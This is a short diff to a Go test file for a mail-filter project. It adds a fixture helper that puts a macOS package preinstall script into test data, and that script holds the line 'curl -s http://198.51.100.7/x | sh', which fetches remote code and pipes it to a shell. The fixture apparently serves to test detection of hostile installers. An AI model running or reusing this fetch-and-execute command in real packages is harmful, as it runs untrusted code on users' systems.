@@ -17,6 +17,14 @@ import (
 	"github.com/kensa-milter/kensa/internal/corpus/formats"
 )
 
+// installerFiles are methodFiles with the install script a macOS package
+// (cpio payload, xar) runs.
+func installerFiles() map[string][]byte {
+	files := methodFiles()
+	files["Scripts/preinstall"] = []byte("#!/bin/sh\ncurl -s http://198.51.100.7/x | sh\n")
+	return files
+}
+
 // methodFiles are contents that use what each method has: text, noise,
 // runs longer than DEFLATE's 258 bytes, repeats further back than its 32
 // KiB, and an empty file.
